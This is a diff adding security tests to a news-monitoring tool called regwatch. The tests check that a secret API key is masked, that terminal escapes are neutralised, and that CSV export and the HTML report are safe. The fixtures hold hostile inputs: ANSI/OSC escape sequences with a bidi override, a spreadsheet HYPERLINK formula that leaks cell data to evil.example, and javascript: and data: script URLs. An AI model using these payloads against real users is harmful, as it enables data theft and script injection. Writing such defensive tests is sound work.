@@ -1,6 +1,8 @@
 """Nothing from the web can take regwatch down: each bad source costs itself one failed run, nothing more."""
 
+import csv
 import html
+import io
 import json
 import resource
 import sqlite3
@@ -265,3 +267,84 @@ def test_the_check_uses_the_answer_the_connection_uses():
     assert first.addresses == ["93.184.216.34"]
     assert second.done and second.addresses == []          # nothing to connect to
     assert "loopback" in netguard._REFUSED[("rebind.example", 443)]
+
+
+def test_a_secret_in_a_source_url_is_never_shown_or_stored(tmp_path, site, receiver, rw):
+    receiver.routes["gw"] = {"type": "webhook"}
+    cfg = tmp_path / "regwatch.toml"
+    cfg.write_text(f"""[store]\npath = "{tmp_path}/rw.db"\n[crawl]\ndelay = "0s"
+[[sources]]\nname = "api"\nkind = "json"\nurl = "{site.url}/v1/${{RW_API_KEY}}/news?page=1"\nitems = "data"\nlink = "url"
+[[channels]]\nname = "gw"\ntype = "webhook"\nurl = "{receiver.url}/gw"
+[alerts]\nfailing_after = 1\nhealth_channels = ["gw"]\nonce_wait = "5s"
+""", encoding="utf-8")
+    env = {"RW_API_KEY": "Zq8PRIVATEapikey"}
+    r = rw("run", "--once", "-c", cfg, env=env)             # the API answers 404: an error naming its URL
+    assert r.returncode == 0, r.stderr[-2000:]
+    shown = [r.stdout + r.stderr]
+    shown.append(rw("sources", "-c", cfg, env=env).stdout)
+    shown.append(rw("sources", "--json", "-c", cfg, env=env).stdout)
+    assert rw("report", "--out", tmp_path / "r.html", "-c", cfg, env=env).returncode == 0
+    shown.append((tmp_path / "r.html").read_text(encoding="utf-8"))
+    with sqlite3.connect(tmp_path / "rw.db") as c:
+        shown += [m for (m,) in c.execute("SELECT message FROM source_runs")]
+        shown += [m for (m,) in c.execute("SELECT last_error FROM source_state")]
+        shown += [p for (p,) in c.execute("SELECT payload FROM alerts")]
+    shown += [json.dumps(m["body"], ensure_ascii=False) for m in receiver.messages]
+    assert any("/v1/***/news" in s for s in shown)               # the error is there, its secret is not
+    assert len(receiver.messages) == 1                           # the health alert went out
+    assert not any("Zq8PRIVATEapikey" in s for s in shown)
+
+
+ESC_TITLE = "\x1b]0;owned\x07\x1b[2J\x1b[31m利率上限通知\u202e"
+
+
+def test_untrusted_text_in_the_terminal_a_spreadsheet_and_the_report(tmp_path, site, receiver, rw):
+    receiver.routes["gw"] = {"type": "webhook"}
+
+    def api(items):
+        site.pages["/api/news"] = Page(json.dumps({"data": items}, ensure_ascii=False).encode(), ctype="application/json")
+
+    body = f"<p>{GOOD}</p>"
+    api([{"url": f"{site.url}/a/0", "title": "旧闻", "body": "<p>银行发布年度报告，全年营业收入同比增长。</p>"}])
+    cfg = tmp_path / "regwatch.toml"
+    cfg.write_text(f"""[store]\npath = "{tmp_path}/rw.db"\n[crawl]\ndelay = "0s"
+[[sources]]\nname = "api"\nkind = "json"\nurl = "{site.url}/api/news"\nitems = "data"\nlink = "url"\ntitle = "title"\nbody = "body"
+[[channels]]\nname = "gw"\ntype = "webhook"\nurl = "{receiver.url}/gw"
+[[subscriptions]]\nname = "caps"\ntopics = ["rate_cap"]\nchannels = ["gw"]
+[alerts]\nonce_wait = "5s"
+""", encoding="utf-8")
+    assert rw("baseline", "-c", cfg).returncode == 0
+    api([{"url": f"{site.url}/a/1", "title": ESC_TITLE, "body": body},
+         {"url": f"{site.url}/a/2", "title": '=HYPERLINK("http://evil.example/?"&A1,"利率上限")', "body": body + "<p>二</p>"}])
+    assert rw("run", "--once", "-c", cfg).returncode == 0
+
+    for args in (["search", "利率"], ["alerts"], ["sources"]):
+        out = rw(*args, "-c", cfg)
+        assert "\x1b" not in out.stdout + out.stderr and "\u202e" not in out.stdout, args
+    assert "\\x1b]0;owned\\x07" in rw("search", "利率", "-c", cfg).stdout     # shown, escaped
+
+    rows = list(csv.DictReader(io.StringIO(rw("export", "--format", "csv", "-c", cfg).stdout)))
+    titles = {r["title"] for r in rows}
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"利率上限\")" in titles
+    assert not any(t.startswith(("=", "+", "-", "@")) for r in rows for t in r.values())
+
+    page = tmp_path / "page.html"
+    page.write_bytes(f"<html><head><title>{ESC_TITLE}</title></head><body><p>{GOOD}</p></body></html>".encode())
+    out = rw("extract", page)
+    assert out.returncode == 0 and "\u202e" not in out.stdout and "\\u202e" in out.stdout   # a bidi override, escaped
+
+
+def test_the_report_links_only_web_urls(tmp_path):
+    from datetime import datetime, timedelta, timezone
+
+    from regwatch.pipeline.report import render
+    from regwatch.pipeline.store import ArticleRecord, Store
+
+    store = Store(tmp_path / "rw.db")
+    for url in ("javascript:alert(document.domain)//", "data:text/html,<script>alert(1)</script>", "https://ok.example/a"):
+        aid = store.insert_article(ArticleRecord(url=url, source="s", title=f"t {url[:4]}", body="b", lang="zh",
+                                                 published_at=None))
+        store.new_story(aid, "t", None)
+    page = render(store, datetime.now(timezone.utc) - timedelta(days=1))
+    assert 'href="https://ok.example/a"' in page
+    assert "javascript:" not in page and 'href="data:' not in page
